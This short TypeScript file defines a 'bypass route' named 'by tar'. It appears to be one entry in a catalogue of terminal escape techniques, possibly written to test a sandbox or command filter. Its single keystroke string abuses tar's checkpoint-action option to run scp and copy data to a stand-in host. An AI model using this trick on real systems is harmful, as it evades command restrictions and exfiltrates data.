import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'by tar',
  source: 'thought of with the keys of the line editor',
  keys: ["tar cf /dev/null /etc/hostname --checkpoint=1 --checkpoint-action=exec='scp DATA host:'\r"],
};
